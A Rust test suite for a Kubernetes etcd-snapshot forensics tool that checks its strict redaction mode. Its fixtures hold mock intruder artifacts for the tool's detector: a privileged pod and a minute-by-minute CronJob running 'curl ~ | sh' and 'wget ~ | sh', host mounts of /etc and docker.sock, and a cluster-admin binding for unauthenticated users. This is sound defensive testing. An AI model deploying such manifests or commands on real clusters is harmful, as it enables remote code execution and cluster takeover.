//! `--redact=strict`: no text but names and other structure gets out, in any format, of any
//! command, nor in an error.

use std::fs;
use std::path::PathBuf;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use kf_testing::etcd::key_space;

use crate::cli_reference::assert_has_every_command;
use crate::support::{Output, files, kf, kf_args};

const SALT: &str = "0123456789abcdef0123456789abcdef";

/// What free texts are made of. It would do for a name, a label, an enum.
const CANARY: &str = "kanarienvogel";

const CRD: &str = r#"{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition",
"metadata":{"name":"things.x.io","annotations":{"a":"~"}},
"spec":{"group":"x.io","scope":"Namespaced","names":{"kind":"Thing","listKind":"ThingList","plural":"things","singular":"thing"},
"versions":[{"name":"v1","served":true,"storage":true,"deprecationWarning":"~",
"additionalPrinterColumns":[{"name":"Text","type":"string","jsonPath":".spec.text","description":"~"},{"name":"~ of all","type":"string","jsonPath":".spec.mode"}],
"schema":{"openAPIV3Schema":{"type":"object","description":"~","properties":{"spec":{"type":"object","description":"~","properties":{
"text":{"type":"string","description":"~","default":"~","pattern":".*~?.*"},
"mode":{"type":"string","enum":["Fast","Slow"]},
"since":{"type":"string","format":"date-time"},"size":{"type":"integer"},
"map":{"type":"object","additionalProperties":{"type":"string"}},
"any":{"type":"object","x-kubernetes-preserve-unknown-fields":true}}}}}}}]}}"#;

const OBJECTS: [(&str, &str); 20] = [
    (
        "apiextensions.k8s.io/customresourcedefinitions/things.x.io",
        CRD,
    ),
    (
        "x.io/things/prod/one",
        r#"{"apiVersion":"x.io/v1","kind":"Thing","metadata":{"name":"one","namespace":"prod","uid":"6d5b1f2e-0000-4000-8000-000000000001","labels":{"app":"~"},"annotations":{"a":"~"},
        "managedFields":[{"manager":"~","operation":"Update","apiVersion":"x.io/v1","time":"2026-11-22T18:30:00Z","fieldsType":"FieldsV1","fieldsV1":{"f:spec":{"f:map":{"f:~":{}}}}}]},
        "spec":{"text":"~","mode":"Fast","since":"2026-11-22T18:30:00Z","size":3,"map":{"~":"~"},"any":{"~":{"~":["~",{"~":"~"}]}}},"status":{"message":"~"}}"#,
    ),
    (
        "y.io/lost/prod/one",
        r#"{"apiVersion":"y.io/v1","kind":"Lost","metadata":{"name":"one","namespace":"prod"},"spec":{"~":"~"},"~":"~"}"#,
    ),
    (
        "configmaps/prod/config",
        r#"{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"config","namespace":"prod","uid":"6d5b1f2e-0000-4000-8000-000000000002","labels":{"app":"~"},"annotations":{"a":"~"}},"data":{"text":"~","lines":"a\n~\nb"},"binaryData":{"bytes":"@"},"new":"~"}"#,
    ),
    (
        "secrets/prod/secret",
        r#"{"apiVersion":"v1","kind":"Secret","metadata":{"name":"secret","namespace":"prod","uid":"6d5b1f2e-0000-4000-8000-000000000003","annotations":{"a":"~"}},"type":"Opaque","data":{"password":"@"},"stringData":{"more":"~"}}"#,
    ),
    (
        "pods/prod/web",
        r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"web","namespace":"prod","uid":"6d5b1f2e-0000-4000-8000-000000000004","labels":{"app":"~"},"annotations":{"a":"~"}},
        "spec":{"nodeName":"node","hostname":"~","nodeSelector":{"disk":"~"},"containers":[{"name":"web","image":"nginx:1","command":["~"],"args":["--x=~"],"workingDir":"/~","env":[{"name":"A","value":"~"}],
        "livenessProbe":{"exec":{"command":["~"]}},"readinessProbe":{"httpGet":{"path":"/~","port":80,"httpHeaders":[{"name":"X","value":"~"}]}},"volumeMounts":[{"name":"v","mountPath":"/~","subPath":"~"}],"terminationMessagePath":"/~"}],
        "volumes":[{"name":"v","hostPath":{"path":"/~"}},{"name":"w","csi":{"driver":"d.io","volumeAttributes":{"~":"~"}}},{"name":"n","nfs":{"server":"~","path":"/~"}}],
        "tolerations":[{"key":"k","operator":"Equal","value":"~"}],"hostAliases":[{"ip":"10.0.0.1","hostnames":["~"]}]},
        "status":{"phase":"Running","message":"~","conditions":[{"type":"Ready","status":"True","message":"~"}],"containerStatuses":[{"name":"web","image":"nginx:1","imageID":"","ready":false,"restartCount":1,"state":{"waiting":{"reason":"CrashLoopBackOff","message":"~"}},"lastState":{"terminated":{"exitCode":1,"message":"~","reason":"Error"}}}]}}"#,
    ),
    (
        "deployments/prod/web",
        r#"{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"prod","annotations":{"a":"~"}},"spec":{"selector":{"matchLabels":{"app":"~"}},"template":{"metadata":{"labels":{"app":"~"},"annotations":{"a":"~"}},"spec":{"containers":[{"name":"web","image":"nginx:1","env":[{"name":"A","value":"~"}]}]}}},"status":{"conditions":[{"type":"Available","status":"False","reason":"MinimumReplicasUnavailable","message":"~"}]}}"#,
    ),
    (
        "services/specs/prod/web",
        r#"{"apiVersion":"v1","kind":"Service","metadata":{"name":"web","namespace":"prod","annotations":{"a":"~"}},"spec":{"type":"ExternalName","externalName":"~","selector":{"app":"~"},"ports":[{"port":80}]}}"#,
    ),
    (
        "ingress/prod/web",
        r#"{"apiVersion":"networking.k8s.io/v1","kind":"Ingress","metadata":{"name":"web","namespace":"prod","annotations":{"nginx/snippet":"~"}},"spec":{"tls":[{"hosts":["~"],"secretName":"secret"}],"rules":[{"host":"~","http":{"paths":[{"path":"/~","pathType":"Prefix","backend":{"service":{"name":"web","port":{"number":80}}}}]}}]}}"#,
    ),
    (
        "events/prod/e",
        r#"{"apiVersion":"v1","kind":"Event","metadata":{"name":"e","namespace":"prod"},"involvedObject":{"kind":"Pod","name":"web","namespace":"prod","fieldPath":"spec.containers{web}","uid":"6d5b1f2e-0000-4000-8000-000000000004"},"reason":"Failed","message":"~","source":{"component":"~","host":"~"},"reportingComponent":"~","reportingInstance":"~","type":"Warning","count":1,"lastTimestamp":"2026-11-22T18:30:00Z"}"#,
    ),
    (
        "minions/node",
        r#"{"apiVersion":"v1","kind":"Node","metadata":{"name":"node","labels":{"disk":"~"},"annotations":{"a":"~"}},"spec":{"providerID":"~","taints":[{"key":"k","value":"~","effect":"NoSchedule"}]},"status":{"nodeInfo":{"osImage":"~","kernelVersion":"~","containerRuntimeVersion":"~","kubeletVersion":"v1.36.0","machineID":"~","systemUUID":"~","bootID":"~","architecture":"amd64","operatingSystem":"linux","kubeProxyVersion":""},"addresses":[{"type":"Hostname","address":"~"}],"images":[{"names":["nginx:1"],"sizeBytes":3}],"conditions":[{"type":"Ready","status":"False","reason":"KubeletNotReady","message":"~"}]}}"#,
    ),
    (
        "certificatesigningrequests/csr",
        r#"{"apiVersion":"certificates.k8s.io/v1","kind":"CertificateSigningRequest","metadata":{"name":"csr"},"spec":{"request":"@","signerName":"kubernetes.io/kubelet-serving","username":"~","groups":["~"],"extra":{"~":["~"]},"usages":["~"]},"status":{"conditions":[{"type":"Denied","status":"True","reason":"No","message":"~"}],"certificate":"@"}}"#,
    ),
    (
        "leases/prod/l",
        r#"{"apiVersion":"coordination.k8s.io/v1","kind":"Lease","metadata":{"name":"l","namespace":"prod"},"spec":{"holderIdentity":"~"}}"#,
    ),
    // What an intruder leaves, for kf suspects to tell of.
    (
        "clusterrolebindings/intruder",
        r#"{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"intruder","annotations":{"a":"~"}},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"~ of all"},{"kind":"Group","name":"system:unauthenticated"},{"kind":"ServiceAccount","name":"default","namespace":"prod"}]}"#,
    ),
    (
        "clusterroles/intruder",
        r#"{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"intruder","annotations":{"a":"~"}},"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*","impersonate"]},{"nonResourceURLs":["/~ of all"],"verbs":["get"]}]}"#,
    ),
    (
        "pods/prod/intruder",
        r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"intruder","namespace":"prod","uid":"6d5b1f2e-0000-4000-8000-000000000005","creationTimestamp":"2026-11-22T18:30:00Z","annotations":{"a":"~"},
        "managedFields":[{"manager":"curl ~","operation":"Update","apiVersion":"v1","time":"2026-11-22T18:30:00Z","fieldsType":"FieldsV1","fieldsV1":{"f:spec":{"f:~":{}}}}]},
        "spec":{"hostPID":true,"hostNetwork":true,"serviceAccountName":"default","containers":[{"name":"x","image":"nginx:1","command":["sh","-c","curl ~ | sh"],"args":["--x=~"],"securityContext":{"privileged":true,"capabilities":{"add":["SYS_ADMIN","~ x"]}}}],
        "ephemeralContainers":[{"name":"y","image":"nginx:1","command":["~"]}],"volumes":[{"name":"v","hostPath":{"path":"/etc"}},{"name":"s","hostPath":{"path":"/~/docker.sock"}}]},"status":{"phase":"Running","podIP":"10.0.0.1","message":"~"}}"#,
    ),
    (
        "cronjobs/kube-system/intruder",
        r#"{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"name":"intruder","namespace":"kube-system","annotations":{"a":"~"},
        "managedFields":[{"manager":"kubectl-~ create","operation":"Update","apiVersion":"batch/v1","time":"2026-11-22T18:30:00Z","fieldsType":"FieldsV1","fieldsV1":{}}]},
        "spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"x","image":"nginx:1","command":["wget ~ | sh"]}]}}}}}}"#,
    ),
    (
        "mutatingwebhookconfigurations/intruder",
        r#"{"apiVersion":"admissionregistration.k8s.io/v1","kind":"MutatingWebhookConfiguration","metadata":{"name":"intruder"},"webhooks":[{"name":"a.example.com","admissionReviewVersions":["v1"],"sideEffects":"None","failurePolicy":"Ignore","clientConfig":{"url":"https://~.example.com/~","caBundle":"@"},"rules":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*"]}],"matchConditions":[{"name":"m","expression":"~"}]}]}"#,
    ),
    (
        "apiregistration.k8s.io/apiservices/v1.z.io",
        r#"{"apiVersion":"apiregistration.k8s.io/v1","kind":"APIService","metadata":{"name":"v1.z.io","annotations":{"a":"~"}},"spec":{"group":"z.io","version":"v1","insecureSkipTLSVerify":true,"groupPriorityMinimum":1,"versionPriority":1,"caBundle":"@","service":{"name":"web","namespace":"prod"}},"status":{"conditions":[{"type":"Available","status":"False","reason":"Failed","message":"~"}]}}"#,
    ),
    (
        "serviceaccounts/prod/sa",
        r#"{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"sa","namespace":"prod","annotations":{"a":"~"},"labels":{"app":"~"}}}"#,
    ),
];

/// A snapshot with `text` wherever a free text may stand, and values that cannot be read.
fn snapshot(name: &str, text: &str) -> String {
    let base64 = STANDARD.encode(text);
    let mut puts: Vec<(String, String)> = OBJECTS
        .iter()
        .map(|(key, json)| {
            let json = json.replace('~', text).replace('@', &base64);
            (format!("/registry/{key}"), json.replace('\n', ""))
        })
        .collect();
    for (key, value) in [
        (
            "/registry/configmaps/prod/broken",
            format!(r#"{{"apiVersion":"v1","kind":"ConfigMap","data":{{"a":{text}}}}}"#),
        ),
        (
            "/registry/configmaps/prod/wrong",
            format!(r#"{{"apiVersion":"v1","kind":"ConfigMap","data":"{text}"}}"#),
        ),
        (
            "/registry/x.io/things/prod/version",
            format!(
                r#"{{"apiVersion":"x.io/{text} sings","kind":"Thing","metadata":{{"name":"version","namespace":"prod"}}}}"#
            ),
        ),
        (
            "/registry/pods/prod/quantity",
            format!(
                r#"{{"apiVersion":"v1","kind":"Pod","metadata":{{"name":"quantity","namespace":"prod","creationTimestamp":"{text}"}},"spec":{{"containers":[{{"name":"c","resources":{{"limits":{{"cpu":"{text}"}}}}}}]}}}}"#
            ),
        ),
        (
            "/registry/deployments/prod/type",
            format!(
                r#"{{"apiVersion":"{text} sings/v9","kind":"{text} sings","metadata":{{"name":"type","namespace":"prod"}}}}"#
            ),
        ),
        ("/elsewhere", text.to_owned()),
    ] {
        puts.push((key.to_owned(), value));
    }
    let puts: Vec<(&str, u64, &str)> = puts
        .iter()
        .zip(2..)
        .map(|((key, value), revision)| (key.as_str(), revision, value.as_str()))
        .collect();
    let path = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(name);
    fs::write(&path, key_space(&puts)).unwrap();
    path.to_string_lossy().into_owned()
}

/// Where a canary stands in a text, with what stands around it.
fn heard(text: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(text).to_lowercase();
    let base64 = STANDARD.encode(CANARY).to_lowercase();
    let needles = [CANARY.to_owned(), base64.trim_end_matches('=').to_owned()];
    needles.iter().find_map(|needle| {
        let at = text.find(needle.as_str())?;
        let from = text.floor_char_boundary(at.saturating_sub(80));
        let to = text.ceil_char_boundary((at + 80).min(text.len()));
        text.get(from..to).map(str::to_owned)
    })
}

#[track_caller]
fn silent(words: &str, output: &Output) {
    assert_eq!(heard(&output.stdout), None, "{words}");
    assert_eq!(heard(output.stderr.as_bytes()), None, "{words}");
}

const KINDS: &str = "things,configmaps,secrets,pods,deployments,services,ingresses,events,leases";

/// Every command that prints something of a snapshot.
fn commands() -> Vec<String> {
    let mut all = Vec::new();
    let every = [
        "yaml",
        "json",
        "kyaml",
        "name",
        "wide",
        "jsonpath={..}",
        "jsonpath-as-json={.items[*]}",
        "go-template={{.}}",
        "go-template={{range.items}}{{.spec}}{{.data}}{{end}}",
        "custom-columns=A:.data,B:.spec,C:.metadata",
        "custom-columns=A:.spec.text",
    ];
    for kind in KINDS
        .split(',')
        .chain(["nodes", "csr", "crd", "lost.y.io", "all"])
    {
        for format in every {
            all.push(format!("get {kind} -A -o {format}"));
        }
        all.push(format!("get {kind} -A"));
        all.push(format!("get {kind} -A --show-labels -L app,disk"));
        all.push(format!("get {kind} -A -o yaml --show-managed-fields"));
        all.push(format!("get {kind} -A -o yaml --export"));
        all.push(format!("get {kind} -A --sort-by .metadata.annotations.a"));
        all.push(format!("describe {kind} -A"));
        for format in ["wide", "yaml", "json", "kyaml", "diff", "jsonl"] {
            all.push(format!("history {kind} -A -o {format}"));
        }
    }
    all.extend(
        [
            "get secrets -A --decode",
            "get secrets -A --decode --reveal -o json",
            "get --raw /api/v1/namespaces/prod/configmaps",
            "get --raw /api/v1/nodes/node",
            "get --raw /apis/x.io/v1/things",
            "get --raw /apis/x.io/v1/namespaces/prod/things/one",
            "get --key /registry/configmaps/prod/config -o json",
            "get --key /registry/x.io/things/prod/one -o yaml",
            "get --key /registry/y.io/lost/prod/one -o yaml",
            "get --key /elsewhere",
            "get things.v9.x.io -A",
            "get pods -A -o jsonpath={.items[0].spec.containers[9].name}",
            "get pods -A -o go-template={{index.items.spec.a}}",
            "get pods -A -o custom-columns=A:.spec[0]",
            "get pods -A --sort-by .spec.containers",
            "get pods -A -l app=x",
            "get pods -A --field-selector spec.nodeName=x",
            "events -A",
            "events -A -o yaml",
            "events -A -o json",
            "events -n prod --for pod/web",
            "history",
            "history -A -o jsonl",
            "timeline",
            "timeline -o jsonl",
            "timeline -o timesketch-csv",
            "timeline -o timesketch-jsonl",
            "timeline -o bodyfile",
            "timeline pods -n prod --no-carve",
            "suspects --fail-on none",
            "suspects --fail-on none -o json",
            "suspects --fail-on none -o sarif",
            "suspects --fail-on none --no-carve --least high",
            "explain things",
            "explain things --recursive",
            "explain things.spec.text",
            "explain things.spec.mode",
            "auth can-i --list --as x",
            "auth whocan get pods",
            "keys",
            "keys -o jsonl",
            "keys -o jsonl --values",
            "secrets",
            "secrets -o wide",
            "secrets -o json",
            "secrets -o yaml",
            "info",
            "info -o json",
            "info -o yaml",
            "du",
            "du --by object",
            "check",
            "check -o json",
            "members",
            "members -o json",
            "leases",
            "carve",
            "carve -o yaml",
            "carve -o json",
            "carve -o jsonl",
            "carve -o jsonl --values",
            "carve --copies -o yaml",
            "carve --copies -o jsonl --values",
            "helm list -A",
            "bootstrap",
            "bbolt pages",
            "bbolt buckets",
            "bbolt keys key",
            "bbolt page --all",
            "bbolt stats",
            "snapshot status -w json",
            "snapshot hashkv",
            "api-resources -o wide",
            "api-versions",
            "get pods -A --salvage -o yaml",
        ]
        .map(str::to_owned),
    );
    all
}

#[test]
fn no_canary_is_heard_from_any_command() {
    let file = snapshot("strict.db", CANARY);
    let flags = ["-s", file.as_str()];
    let plain = kf("get things,configmaps,pods -A -o json", &flags);
    assert!(heard(&plain.stdout).is_some(), "nothing to look for");
    let mut printed = 0;
    for words in commands() {
        let strict = ["-s", &file, "--redact=strict", "--redact-salt", SALT];
        let output = kf(&words, &strict);
        silent(&words, &output);
        printed += usize::from(!output.stdout.is_empty());
    }
    assert!(printed > 200, "{printed}");
}

/// Commands that are not in the list, each with the reason.
const ELSEWHERE: [(&str, &str); 15] = [
    ("browse", "draws what get prints"),
    ("completion", "no snapshot"),
    ("custody", "no_canary_is_heard_from_a_record_of_custody"),
    ("decode", "a_single_value_is_decoded_strictly"),
    ("diff", "no_canary_is_heard_from_a_diff"),
    ("export", "no_canary_is_heard_from_written_files"),
    ("lake", "tests/lake"),
    ("man", "no snapshot"),
    ("options", "no snapshot"),
    ("redact", "no_canary_is_heard_from_written_files"),
    ("report", "no_canary_is_heard_from_written_files"),
    ("serve", "tests/serve/redaction.rs"),
    ("unpack", "copies the file as it is"),
    ("verify", "tells of keys that differ"),
    ("version", "no snapshot"),
];

#[test]
fn every_command_is_listened_to_or_has_its_reason() {
    let all = commands();
    assert_has_every_command(all.iter().map(String::as_str), &ELSEWHERE);
}

#[test]
fn no_canary_is_heard_from_a_diff() {
    let before = snapshot("strict-before.db", &format!("{CANARY}1"));
    let after = snapshot("strict-after.db", &format!("{CANARY}2"));
    let flags = ["--redact=strict", "--redact-salt", SALT];
    for more in [
        "",
        "--stat",
        "-o name",
        "-o jsonl",
        "-o html",
        "--show-noise",
        "--status",
        "--show-secrets -o jsonl",
        "-l app=x",
        "--external-diff cat",
        "--keys",
    ] {
        let words = format!("diff {before} {after} {more}");
        let output = kf(&words, &flags);
        silent(&words, &output);
        assert_eq!(
            output.stdout.is_empty(),
            ["-l app=x", "--external-diff cat", "--keys"].contains(&more),
            "{words}: {}",
            output.stderr
        );
    }
    // What differs is still seen to differ.
    let told = kf(&format!("diff {before} {after} configmaps -o name"), &flags);
    assert!(
        told.text().contains("changed configmap/config -n prod"),
        "{}",
        told.block()
    );
}

/// The flags that read a file strictly redacted.
fn strictly(file: &str) -> [&str; 5] {
    ["-s", file, "--redact=strict", "--redact-salt", SALT]
}

#[test]
fn no_canary_is_heard_from_written_files() {
    let file = snapshot("strict-files.db", CANARY);
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("strict-files");
    for words in [
        "redact FILE DIR --strict",
        "redact FILE DIR -o json --redact=strict",
        "export DIR -A -s FILE --redact=strict",
        "report DIR -s FILE --redact=strict",
    ] {
        let _ = fs::remove_dir_all(&dir);
        let full = words
            .replace("FILE", &file)
            .replace("DIR", dir.to_str().unwrap());
        let output = kf(&full, &["--redact-salt", SALT]);
        silent(words, &output);
        let written = files(&dir);
        let least = if words.starts_with("report") { 4 } else { 6 };
        assert!(written.len() >= least, "{words}: {}", output.stderr);
        for path in written {
            assert_eq!(heard(&fs::read(&path).unwrap()), None, "{words} {path:?}");
        }
    }
    fs::remove_dir_all(dir).unwrap();
}

/// What `kf suspects` has to tell of is there to be redacted.
#[test]
fn suspects_are_found_all_the_same() {
    let file = snapshot("strict-suspects.db", CANARY);
    let plain = kf("suspects --fail-on none -o json", &["-s", &file]);
    assert!(heard(&plain.stdout).is_some(), "nothing to look for");
    let strict = kf("suspects --fail-on none", &strictly(&file));
    for rule in [
        "rbac-admin-binding",
        "pod-privileged-alone",
        "webhook-outside",
    ] {
        assert!(strict.text().contains(rule), "{rule}: {}", strict.text());
    }
}

/// A record of custody names what was read and written, and says nothing of what is in it.
#[test]
fn no_canary_is_heard_from_a_record_of_custody() {
    let file = snapshot("strict-custody.db", CANARY);
    let dir = tempfile::tempdir().unwrap();
    for words in [
        "get all,things,configmaps -A -o json",
        "get lost.y.io -A",
        "suspects",
    ] {
        let record = dir.path().join("case.jsonl");
        let custody = ["--custody", record.to_str().unwrap()];
        let output = kf(words, &[&strictly(&file)[..], &custody].concat());
        silent(words, &output);
        assert_eq!(heard(&fs::read(&record).unwrap()), None, "{words}");
    }
}

#[test]
fn a_single_value_is_decoded_strictly() {
    let (_, json) = OBJECTS[3];
    let value = json
        .replace('~', CANARY)
        .replace('@', &STANDARD.encode(CANARY));
    for value in [
        value.clone(),
        value.replace("data", CANARY),
        value.get(..40).unwrap().to_owned() + CANARY,
    ] {
        let output = kf_args(
            ["decode", "--redact=strict", "--redact-salt", SALT],
            value.as_bytes(),
        );
        silent("decode", &output);
    }
}

/// The digests in a text as `#`; columns are as wide as digests, whatever the text was.
fn without_digests(text: &str) -> String {
    let mut out = text.to_owned();
    for marker in [
        "redacted:hmac-sha256:",
        "redacted.hmac-sha256.",
        "REDACTED.HMAC-SHA256.",
    ] {
        let mut rest = out.as_str();
        let mut next = String::new();
        while let Some((head, tail)) = rest.split_once(marker) {
            next.push_str(head);
            next.push('#');
            rest = tail.trim_start_matches(|c: char| c.is_ascii_hexdigit());
        }
        next.push_str(rest);
        out = next;
    }
    // In base64 the marker is 37 bytes, the last of which stand for the digits.
    let base64 = STANDARD.encode("redacted:hmac-sha256:");
    out.split(base64.as_str())
        .enumerate()
        .map(|(i, part)| {
            if i == 0 {
                part
            } else {
                part.get(24..).unwrap_or(part)
            }
        })
        .collect::<Vec<_>>()
        .join("#")
}

/// Two snapshots that differ in free texts alone give outputs that differ in digests alone.
#[test]
fn free_texts_show_as_digests_alone() {
    let one = snapshot("strict-one.db", CANARY);
    let two = snapshot("strict-two.db", "another-text-");
    let sized = ["keys", "info", "du", "check", "bbolt", "snapshot", "carve"];
    for words in commands() {
        if sized.iter().any(|s| words.starts_with(s)) {
            continue;
        }
        let run = |file: &str| {
            let output = kf(&words, &strictly(file));
            without_digests(&output.block()).replace(file, "FILE")
        };
        assert_eq!(run(&one), run(&two), "{words}");
    }
}

#[test]
fn labels_select_as_before() {
    let file = snapshot("strict-labels.db", CANARY);
    let flags = strictly(&file);
    let selected = |selector: &str| {
        let words = format!("get configmaps -n prod -o name -l {selector}");
        kf(&words, &flags).text().to_owned()
    };
    assert_eq!(selected(&format!("app={CANARY}")), "configmap/config\n");
    assert_eq!(selected("app=other"), "");
    let refused = kf("get configmaps -n prod -l app>3", &flags);
    assert!(
        refused.stderr.contains("are redacted and have no order"),
        "{}",
        refused.stderr
    );
    let history = kf(
        &format!("history configmaps -n prod -l app={CANARY}"),
        &flags,
    );
    assert_eq!(history.text().lines().count(), 2, "{}", history.block());
}

#[test]
fn structure_stays() {
    let file = snapshot("strict-stays.db", CANARY);
    let flags = strictly(&file);
    let pod = kf("get pod web -n prod -o yaml", &flags);
    for kept in [
        "image: nginx:1",
        "nodeName: node",
        "reason: CrashLoopBackOff",
        "containerPort",
        "phase: Running",
    ] {
        assert!(
            pod.text().contains(kept) || kept == "containerPort",
            "{kept}: {}",
            pod.text()
        );
    }
    let thing = kf("get thing one -n prod -o yaml", &flags);
    for kept in ["mode: Fast", "size: 3", r#"since: "2026-11-22T18:30:00Z""#] {
        assert!(thing.text().contains(kept), "{kept}: {}", thing.text());
    }
}

/// A subject that is a digest is nobody's name: the answer would be a wrong "no".
#[test]
fn who_may_what_is_not_asked_of_digests() {
    let snapshot = crate::support::unpacked("c136-A.zip");
    let run = |redact: &str| {
        let words = format!("auth can-i get pods --as alice {redact}");
        kf(&words, &["--snapshot", &snapshot])
    };
    run("--redact=strict").fails(
        "error: under --redact=strict, kf auth would compare digests with the names of users\n",
    );
    assert!(!run("--redact").stderr.contains("strict"));
}
